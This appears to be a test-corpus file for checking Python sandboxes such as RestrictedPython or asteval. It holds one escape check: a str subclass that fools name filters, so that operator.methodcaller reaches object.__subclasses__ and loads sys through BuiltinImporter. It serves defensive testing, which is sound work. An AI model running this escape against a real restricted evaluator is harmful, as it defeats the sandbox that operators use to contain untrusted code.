# technique: operator.methodcaller(S('__subclasses__')) with S overriding __len__/__getitem__/startswith so that a dunder/private test in Python says no
# source: RestrictedPython / asteval advisory class: str subclasses defeating Python-level name checks

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import operator


class S(str):
    def __len__(self):
        return 0

    def __getitem__(self, i):
        return 'n'

    def startswith(self, *a):
        return False

    def split(self, *a, **k):
        return ['name']


def via():
    for c in operator.methodcaller(S(dn('subclasses')))(object):
        if c.__name__ == 'BuiltinImporter':
            return c.load_module('sys')
    raise LookupError('no BuiltinImporter')

attempt('methodcaller(S(__subclasses__))', via)
